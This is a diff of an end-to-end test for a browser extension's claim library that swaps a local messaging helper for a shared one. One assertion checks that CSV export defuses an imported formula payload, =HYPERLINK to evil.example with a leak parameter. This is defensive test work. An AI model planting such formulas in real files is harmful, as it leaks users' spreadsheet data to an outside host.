@@ -5,7 +5,7 @@ import { readFile } from 'node:fs/promises';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Claim } from '../../utils/claims/types';
-import { chromiumPath, type ExtensionSession, launchExtension } from './harness';
+import { chromiumPath, type ExtensionSession, launchExtension, sendFromPage } from './harness';
 
 const PAGE_URL = 'https://www.zerohedge.com/geopolitical/fiercest-syrian-fighting-yet';
 
@@ -34,20 +34,6 @@ const CLAIMS = [
   claim(2, 'Damascus airport was closed for six hours after the strike.', 'BBC'),
   claim(3, 'The "ceasefire" was never more than words, with 3 breaches a day.', null),
 ];
-
-/** Sends a message from the popup page's own context, as the popup itself would. */
-async function send<T>(page: Page, type: string, payload: unknown): Promise<T> {
-  return page.evaluate(
-    ([t, p]) =>
-      (
-        globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }
-      ).chrome.runtime.sendMessage({
-        type: t,
-        payload: p,
-      }),
-    [type, payload] as const,
-  ) as Promise<T>;
-}
 
 async function download(page: Page, buttonName: string): Promise<{ name: string; text: string }> {
   const [file] = await Promise.all([
@@ -78,7 +64,7 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     const popup = await session.openPopup();
     await popup.locator('main').waitFor();
     for (const c of CLAIMS) {
-      const record = await send<{ id: string; savedAt: number }>(popup, 'claim/save', {
+      const record = await sendFromPage<{ id: string; savedAt: number }>(popup, 'claim/save', {
         claim: c,
         pageUrl: `${PAGE_URL}?utm_source=twitter#comments`,
         pageTitle: 'Fiercest Syrian Fighting Yet',
@@ -87,12 +73,12 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
       expect(record.savedAt).toBeGreaterThan(0);
     }
     // Saving again is idempotent.
-    await send(popup, 'claim/save', {
+    await sendFromPage(popup, 'claim/save', {
       claim: CLAIMS[0],
       pageUrl: PAGE_URL,
       pageTitle: 'Fiercest Syrian Fighting Yet',
     });
-    const bad = await send<{ error: string }>(popup, 'claim/save', {
+    const bad = await sendFromPage<{ error: string }>(popup, 'claim/save', {
       claim: { ...CLAIMS[0], score: 'high' },
       pageUrl: PAGE_URL,
       pageTitle: null,
@@ -109,7 +95,7 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
   it('opens the page of a claim for "show in page"', async () => {
     const popup = await session.openPopup();
     const pageUrl = `${session.baseUrl}/seed/seed-original.html`;
-    await send(popup, 'claim/save', {
+    await sendFromPage(popup, 'claim/save', {
       claim: claim(9, 'A claim to find again on its page.', 'Reuters'),
       pageUrl,
       pageTitle: 'Seed',
@@ -119,13 +105,14 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
         predicate: (p) => p.url().startsWith(pageUrl),
         timeout: 15_000,
       }),
-      send<{ ok?: boolean; error?: string }>(popup, 'claim/show-in-page', { id: 'browser-9' }),
+      sendFromPage<{ ok?: boolean; error?: string }>(popup, 'claim/show-in-page', { id: 'browser-9' }),
     ]);
     expect(answer).toEqual({ ok: true });
     expect(opened.url()).toBe(pageUrl);
     await opened.close();
     expect(
-      (await send<{ deleted: { id: string } }>(popup, 'claim/delete', { id: 'browser-9' })).deleted.id,
+      (await sendFromPage<{ deleted: { id: string } }>(popup, 'claim/delete', { id: 'browser-9' })).deleted
+        .id,
     ).toBe('browser-9');
     session.assertNoErrors();
   });
@@ -139,7 +126,7 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     await popup.getByRole('button', { name: 'Save changes' }).click();
     await expect
       .poll(async () => {
-        const { claims } = await send<{ claims: { id: string; note: string; tags: string[] }[] }>(
+        const { claims } = await sendFromPage<{ claims: { id: string; note: string; tags: string[] }[] }>(
           popup,
           'library/query',
           {
@@ -239,7 +226,7 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
       'utf8',
     );
     const popup = await fresh!.openPopup();
-    const result = await send<{ ok: boolean; added: number }>(popup, 'import', { content: hostile });
+    const result = await sendFromPage<{ ok: boolean; added: number }>(popup, 'import', { content: hostile });
     expect(result).toMatchObject({ ok: true, added: 6 });
     await popup.reload();
     await popup.getByRole('tab', { name: 'Library' }).click();
@@ -255,7 +242,7 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     const csv = await download(popup, 'CSV');
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
     // The hostile claims go again, so the next test sees the three it imported.
-    for (let n = 1; n <= 6; n += 1) await send(popup, 'claim/delete', { id: `hostile-${n}` });
+    for (let n = 1; n <= 6; n += 1) await sendFromPage(popup, 'claim/delete', { id: `hostile-${n}` });
     fresh!.assertNoErrors();
   });
 
@@ -282,7 +269,11 @@ describe.skipIf(!chromiumPath)('claim library in the real extension', () => {
     await expect.poll(() => alert.textContent()).toContain('This file is not JSON');
 
     const popup = await fresh!.openPopup();
-    const { claims } = await send<{ claims: { id: string; note: string }[] }>(popup, 'library/query', {});
+    const { claims } = await sendFromPage<{ claims: { id: string; note: string }[] }>(
+      popup,
+      'library/query',
+      {},
+    );
     expect(claims.map((c) => c.id).sort()).toEqual(['browser-1', 'browser-2', 'browser-3']);
     expect(claims.find((c) => c.id === 'browser-2')?.note).toBe('Check against the airport authority');
     fresh!.assertNoErrors();
